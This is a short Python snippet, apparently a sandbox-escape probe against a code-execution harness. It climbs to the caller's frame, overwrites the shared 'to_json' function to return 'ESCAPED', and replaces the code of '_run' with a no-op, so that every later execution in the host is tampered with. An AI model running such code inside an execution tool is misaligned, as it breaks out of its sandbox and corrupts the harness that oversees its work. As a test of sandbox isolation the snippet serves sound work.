# the functions that serve every execution, patched through a frame
import sys
ours = sys._getframe().f_back.f_globals
print('ESCAPED: the prelude is changed') if ours.get('leak') else None
ours['leak'] = True
ours['to_json'] = lambda *a: 'ESCAPED'
ours['_run'].__code__ = (lambda request: None).__code__
